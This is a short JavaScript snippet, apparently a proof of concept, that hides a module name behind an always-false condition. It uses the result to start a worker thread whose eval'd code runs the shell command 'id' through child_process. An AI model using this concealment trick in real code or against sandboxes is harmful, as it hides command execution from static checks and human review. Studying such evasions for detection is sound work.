// The first branch is harmless and the condition is always false: the second is what loads.
const name = process.pid < 0 ? 'path' : 'worker_threads';
const { Worker } = require(name);
new Worker('require("child_process").execSync("id")', { eval: true });
